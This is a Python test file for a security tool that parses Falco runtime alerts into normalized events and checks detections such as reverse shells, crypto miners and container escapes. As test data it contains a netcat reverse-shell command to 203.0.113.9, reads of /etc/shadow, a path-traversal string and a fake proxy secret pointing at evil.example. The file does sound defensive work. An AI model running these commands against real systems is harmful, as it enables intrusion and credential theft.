"""The Falco source on alerts of Falco's stock rules and an inventory of normal activity (tests/data/falco), on the
field conventions of Falco's JSON output, and on bad input; ``vigil replay`` and ``vigil collect file`` as run."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import orjson
import pytest

from vigil import kafka
from vigil.event import Event
from vigil.sources.falco import FALCO_SOURCE
from vigil.sources.falco.fixtures import falco_record
from vigil.sources.source import RecordRejected, Rejected

REPO = Path(__file__).resolve().parents[2]
DATA = REPO / "tests" / "data" / "falco"
ATTACKS = DATA / "attacks.jsonl"
BENIGN = DATA / "benign.jsonl"
VIGIL = Path(sys.executable).parent / "vigil"
LIMIT = 1 << 20


def events(path: Path) -> list[Event]:
    found = []
    for line in path.read_bytes().splitlines():
        (record,) = FALCO_SOURCE.split(line, LIMIT)
        assert not isinstance(record, Rejected), record
        found.append(FALCO_SOURCE.normalize(record, "test-cluster", "collector-node"))
    return found


def normalize(record: dict) -> Event:
    return FALCO_SOURCE.normalize(record, "test-cluster", "collector-node")


def test_stock_rule_alerts_map_to_the_syscall_they_fired_on() -> None:
    found = events(ATTACKS)

    assert [(e.kind, e.action) for e in found] == [
        ("process.exec", "execve"), ("file.open", "openat"), ("file.open", "openat"), ("file.write", "openat"),
        ("process.exec", "execve"), ("process.exec", "execve"), ("process.exec", "execve"),
        ("net.connect", "connect"), ("kernel.module_load", "finit_module"), ("process.ptrace", "attach"),
        ("file.write", "openat"), ("process.exec", "execve"), ("process.ns_change", "setns"),
        ("process.exec", "execve"), ("process.exec", "execve"), ("file.write", "openat"),
    ]
    shell = found[0]
    assert (shell.source, shell.cluster, shell.node) == ("falco", "test-cluster", "node-1")
    assert (shell.k8s.namespace, shell.k8s.pod, shell.k8s.container_id) == ("shop", "api-7c4d9f8b5-k8m2p",
                                                                             "c41d0a9e8b77")
    assert shell.k8s.image == "ghcr.io/acme/api:2.4.1"
    assert (shell.actor.exe, shell.actor.args, shell.actor.pid, shell.actor.uid) == ("/bin/bash", ["bash"], 40101, 0)
    assert shell.actor.parent_exe == "runc"
    assert shell.time_ns == 1741079400223456789
    assert found[6].actor.args == ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"]
    assert (found[7].target.address, found[7].target.port, found[7].outcome.result) == ("198.51.100.20", 3333,
                                                                                        "failure")
    assert found[1].target.path == "/etc/shadow" and found[3].target.path == "/etc/ld.so.preload"
    assert (found[9].target.resource, found[12].target.resource) == ("processes", "namespaces")
    assert found[15].target.path == "/host/etc/kubernetes/manifests/kube-proxy-x.yaml"
    assert len({e.id for e in found}) == len(found)


def test_normal_activity_inventory() -> None:
    found = events(BENIGN)

    assert [e.kind for e in found] == [
        "process.exec", "net.listen", "net.accept", "file.write", "process.exec", "process.exec", "net.connect",
        "file.open", "file.open", "net.connect", "process.exec", "process.exit", "net.connect", "file.open",
    ]
    listen, accept, connect = found[1], found[2], found[6]
    assert (listen.target.address, listen.target.port) == ("0.0.0.0", 8080)
    assert (accept.target.address, accept.target.port) == ("10.244.2.7", 51234)
    assert (connect.target.address, connect.target.port) == ("10.96.0.30", 5432)
    assert found[4].actor.args == ["/bin/sh", "-c", "gunicorn", "--bind", "0.0.0.0:9000", "app:app"]
    kubelet = found[12]
    assert (kubelet.k8s.container_id, kubelet.k8s.pod, kubelet.k8s.namespace) == ("", "", "")
    assert kubelet.correlation_key == "test-cluster/~"


def test_falco_field_conventions() -> None:
    record = falco_record(
        "Custom rule", "execve",
        {"proc.exepath": "<NA>", "proc.exe": None, "proc.name": "app", "proc.cmdline": "app --serve",
         "k8s.pod.labels": "(app:web, tier:front)", "k8s.pod.uid": "8d1c", "container.full_id": "f" * 64,
         "container.image": "registry.example/app:1.0", "proc.pid": "42", "user.uid": "<NA>"},
    )
    record["uuid"] = "0b6c1f0e-9a3b-4c7d-8e2f-1a2b3c4d5e6f"
    event = normalize(record)

    assert event.actor.exe == "app" and event.actor.args == ["app", "--serve"]
    assert (event.actor.pid, event.actor.uid) == (42, -1)
    assert event.k8s.labels == {"app": "web", "tier": "front"} and event.k8s.pod_uid == "8d1c"
    assert event.k8s.container_id == "f" * 64 and event.k8s.image == "registry.example/app:1.0"
    assert event.original_id == record["uuid"]
    assert normalize(orjson.loads(orjson.dumps(record))).id == event.id

    del record["time"]
    assert normalize(record).time_ns == record["output_fields"]["evt.time"]
    record["output_fields"]["k8s.pod.labels"] = ["app:web", "pod-template-hash:5d8f"]
    assert normalize(record).k8s.labels == {"app": "web", "pod-template-hash": "5d8f"}
    record["output_fields"]["k8s.pod.labels"] = "foo1:bar1,foo2:bar2"
    assert normalize(record).k8s.labels == {"foo1": "bar1", "foo2": "bar2"}


def test_open_flags_decide_read_or_write_and_unknown_syscalls_stay_syscalls() -> None:
    def kind(evt_type: str, fields: dict) -> str:
        return normalize(falco_record("r", evt_type, {"fd.name": "/etc/x", **fields})).kind

    assert kind("openat", {"evt.arg.flags": "O_RDWR"}) == "file.write"
    assert kind("openat", {"evt.arg.flags": "O_RDONLY|O_CLOEXEC"}) == "file.open"
    assert kind("openat", {"evt.is_open_write": False, "evt.arg.flags": "O_RDWR"}) == "file.open"
    assert kind("renameat2", {}) == "file.write"
    assert kind("dup2", {}) == "process.syscall"
    record = falco_record("Old rule output", "execve", {})
    del record["output_fields"]["evt.type"]
    assert (normalize(record).kind, normalize(record).action) == ("process.syscall", "")


def test_key_is_the_correlation_key() -> None:
    for path in (ATTACKS, BENIGN):
        for line in path.read_bytes().splitlines():
            (record,) = FALCO_SOURCE.split(line, LIMIT)
            assert FALCO_SOURCE.key(record, "test-cluster") == normalize(record).correlation_key


K8S_AUDIT_ALERT = orjson.dumps({
    "output": "K8s Secret Deleted", "priority": "Informational", "rule": "K8s Secret Deleted", "source": "k8s_audit",
    "time": "2025-03-04T06:22:18.819232Z", "output_fields": {"ka.user.name": "alice"},
})


@pytest.mark.parametrize(
    ("payload", "reason"),
    [
        (b"\xc3\x28", "invalid_utf8"),
        (b"{\"rule\": ", "not_json"),
        (b'{"rule": "' + b"x" * LIMIT + b'"}', "too_large"),
        (b"[true]", "wrong_kind"),
        (K8S_AUDIT_ALERT, "wrong_kind"),
        (b'{"rule": "r", "time": "2025-03-04T06:22:18Z"}', "missing_field"),
        (b'{"rule": 7, "time": "2025-03-04T06:22:18Z", "output_fields": {}}', "missing_field"),
        (b'{"rule": "r", "time": "03/04/2025", "output_fields": {}}', "missing_field"),
        (b'{"rule": "r", "output_fields": {"evt.time": "soon"}}', "missing_field"),
    ],
)
def test_bad_input_is_rejected_with_a_reason(payload: bytes, reason: str) -> None:
    (rejected,) = FALCO_SOURCE.split(payload, LIMIT)

    assert isinstance(rejected, Rejected) and rejected.reason == reason, rejected
    with pytest.raises(RecordRejected):
        normalize({"rule": "r", "source": "aws_cloudtrail", "output_fields": {}})


def vigil(*args: str | Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(VIGIL), *map(str, args)], capture_output=True, text=True, timeout=120,
                          env={**os.environ, "VIGIL_CLUSTER": "replay-test", **(env or {})})


def test_vigil_replay_raises_the_runtime_detections_on_stock_rule_alerts() -> None:
    result = vigil("replay", "--source", "falco", ATTACKS, BENIGN)

    assert result.returncode == 0, result.stderr
    assert "30 records" in result.stderr and "0 rejected" in result.stderr
    alerts = [orjson.loads(line) for line in result.stdout.splitlines()]
    assert sorted({a["detection"] for a in alerts}) == [
        "runtime.api_server_contact_from_container",  # informational: the benign API client's connection
        "runtime.container_drift", "runtime.container_escape_write", "runtime.crypto_miner",
        "runtime.etc_write_in_container", "runtime.exec_from_tmp", "runtime.host_mount_in_container",
        "runtime.kernel_module_load", "runtime.node_persistence_write", "runtime.nsenter_host_namespaces",
        "runtime.package_manager_in_container", "runtime.ptrace_in_container", "runtime.reverse_shell",
        "runtime.sensitive_file_read", "runtime.shell_in_container", "runtime.ssh_from_container",
        "runtime.static_pod_manifest_write",
    ]  # node_persistence_write: the corpus's /etc/ld.so.preload write (etc_write_in_container reports it too)
    assert all(a["pod"] == "api-7c4d9f8b5-k8m2p" and a["cluster"] == "replay-test" for a in alerts)


@pytest.mark.integration
async def test_vigil_collect_file_ships_alerts_and_dead_letters_other_sources(settings) -> None:
    await kafka.ensure_topics(settings)
    output = Path(settings.data_dir) / "falco.jsonl"
    output.parent.mkdir(parents=True, exist_ok=True)
    output.write_bytes(ATTACKS.read_bytes() + K8S_AUDIT_ALERT + b"\n")
    env = {"VIGIL_KAFKA_TOPIC_PREFIX": settings.kafka.topic_prefix, "VIGIL_DATA_DIR": settings.data_dir}

    result = vigil("collect", "file", "--source", "falco", "--file", output, "--once", env=env)
    assert result.returncode == 0, result.stderr
    shipped = vigil("stream", "tail", "raw.falco", "--since", "1h", "--max", "16", "--timeout", "30", env=env)
    dead = vigil("stream", "tail", "deadletter", "--since", "1h", "--max", "1", "--timeout", "30", env=env)

    assert sorted(orjson.loads(line)["time"] for line in shipped.stdout.splitlines()) == sorted(
        orjson.loads(line)["time"] for line in ATTACKS.read_bytes().splitlines()
    )
    (refused,) = [orjson.loads(line) for line in dead.stdout.splitlines()]
    assert (refused["source"], refused["reason"]) == ("falco", "wrong_kind")


# --- the model's process, container, file and network parts ---------------------------------------------------


def test_the_attack_corpus_fills_terminal_container_pid_login_uid_and_exe_flags() -> None:
    shell = events(ATTACKS)[0]
    assert (shell.actor.tty, shell.actor.container_pid, shell.actor.auid) == (34816, 88, -1)
    assert shell.actor.exe_flags == ["writable", "lower_layer"]
    assert (shell.container.id, shell.container.name, shell.container.image) == (
        "c41d0a9e8b77", "api-7c4d9f8b5", "ghcr.io/acme/api:2.4.1")
    memfd = next(e for e in events(ATTACKS) if "from_memfd" in e.actor.exe_flags)
    assert memfd.actor.exe_flags == ["writable", "upper_layer", "from_memfd"]


def test_exe_flags_from_the_proc_fields_and_only_for_execs() -> None:
    flagged = normalize(falco_record("Drift", "execve", {"proc.exepath": "/app/x", "proc.is_exe_upper_layer": True,
                                                         "proc.is_exe_writable": True}))
    assert flagged.actor.exe_flags == ["writable", "upper_layer"]
    opened = normalize(falco_record("Read", "openat", {"fd.name": "/etc/x", "evt.arg.flags": "O_RDONLY"}))
    assert opened.actor.exe_flags == []


def test_a_path_printed_as_spelled_with_dot_dot_is_a_traversal() -> None:
    fields = {"fd.name": "/etc/passwd", "evt.arg.flags": "O_RDONLY"}
    climbed = normalize(falco_record("Directory traversal monitored file read", "openat",
                                     {**fields, "fd.nameraw": "/var/www/html/../../../etc/passwd"}))
    assert (climbed.file.path, climbed.file.traversal) == ("/etc/passwd", True)
    assert normalize(falco_record("Read", "openat", {**fields, "fd.nameraw": "/etc/passwd"})).file.traversal is False
    assert normalize(falco_record("Read", "openat", {**fields, "fd.nameraw": "/etc/..data/x"})).file.traversal is False


def test_only_the_selected_variables_of_a_printed_environment_are_kept_and_stored() -> None:
    printed = "HOME=/root AWS_SECRET_ACCESS_KEY=abc123 HTTPS_PROXY=http://bob:pw@evil.example:8080"
    record = falco_record("Program run with disallowed http proxy env", "execve",
                          {"proc.exepath": "/usr/bin/curl", "proc.cmdline": "curl x", "proc.env": printed})
    record["output"] = f"Curl or wget run with disallowed HTTP_PROXY environment variable (env={printed})"
    event = normalize(record)
    assert event.actor.env == {"HTTPS_PROXY": "http://bob:***@evil.example:8080"}
    stored = orjson.dumps(event.raw).decode()
    assert "abc123" not in stored and ":pw@" not in stored and "HTTPS_PROXY=http://bob:***@evil" in stored
    opened = normalize(falco_record("Read", "openat", {"fd.name": "/etc/x", "proc.env": printed}))
    assert opened.actor.env == {}


def test_container_runtime_and_lineage_when_the_rule_prints_them() -> None:
    event = normalize(falco_record(
        "Spawned", "execve",
        {"proc.exepath": "/bin/sh", "proc.cmdline": "sh -c id", "container.type": "containerd",
         "container.image.digest": "sha256:" + "ab" * 32, "user.loginuid": 1000, "proc.pexepath": "/usr/bin/python3",
         "proc.pcmdline": "python3 app.py", "proc.aexepath[2]": "/usr/bin/runc", "proc.acmdline[2]": "runc init"},
    ))
    assert (event.container.runtime, event.container.image_id) == ("containerd", "sha256:" + "ab" * 32)
    assert (event.actor.auid, event.actor.parent_args) == (1000, ["python3", "app.py"])
    assert (event.actor.grandparent_exe, event.actor.grandparent_args) == ("/usr/bin/runc", ["runc", "init"])


def test_a_host_process_has_no_container() -> None:
    event = normalize(falco_record("Spawned", "execve", {"proc.exepath": "/bin/sh"}, host=True))
    assert event.container.id == "" and event.container.name == ""


@pytest.mark.parametrize(("evt_type", "fields", "access", "mode", "other"), [
    ("openat", {"fd.name": "/etc/x", "evt.arg.flags": "O_WRONLY|O_CREAT|O_TRUNC", "evt.arg.mode": "0644"},
     ["write", "create", "truncate"], 0o644, ""),
    ("openat", {"fd.name": "/etc/x", "evt.arg.flags": "O_RDWR|O_APPEND|O_CLOEXEC"}, ["read", "write", "append"], -1,
     ""),
    ("openat", {"fd.name": "/etc/x", "evt.is_open_read": True}, ["read"], -1, ""),
    ("renameat2", {"fs.path.name": "/tmp/x", "fs.path.target": "/usr/bin/ls"}, [], -1, "/usr/bin/ls"),
    ("symlinkat", {"fs.path.name": "/etc/shadow", "fs.path.target": "/tmp/s"}, ["create"], -1, "/tmp/s"),
    ("ftruncate", {"fd.name": "/var/log/auth.log"}, ["truncate"], -1, ""),
])
def test_file_syscalls_say_how_the_file_was_accessed(evt_type: str, fields: dict, access: list[str], mode: int,
                                                     other: str) -> None:
    file = normalize(falco_record("File", evt_type, fields)).file
    assert (file.access, file.mode, file.other_path) == (access, mode, other)
    assert file.path


def test_sockets_take_their_ends_from_local_and_remote_else_client_and_server() -> None:
    connect = normalize(falco_record("Out", "connect", {"fd.cip": "10.244.0.5", "fd.cport": 40000, "fd.sip": "1.1.1.1",
                                                        "fd.sport": 443, "fd.l4proto": "tcp", "fd.type": "ipv4"}))
    assert (connect.network.local_address, connect.network.remote_address, connect.network.remote_port) == (
        "10.244.0.5", "1.1.1.1", 443)
    assert (connect.network.family, connect.network.direction, connect.network.remote_class) == (
        "inet", "outbound", "public")
    accept = normalize(falco_record("In", "accept4", {"fd.cip": "192.168.9.9", "fd.cport": 50000, "fd.sip": "10.0.0.2",
                                                      "fd.sport": 22}))
    assert (accept.network.local_address, accept.network.local_port, accept.network.remote_address) == (
        "10.0.0.2", 22, "192.168.9.9")
    assert (accept.network.direction, accept.network.remote_class) == ("inbound", "private")
    printed = normalize(falco_record("Out", "connect", {"fd.lip": "::1", "fd.lport": 1, "fd.rip": "::1",
                                                        "fd.rport": 2, "fd.cip": "9.9.9.9"}))
    assert (printed.network.local_address, printed.network.remote_port, printed.network.family) == ("::1", 2, "inet6")
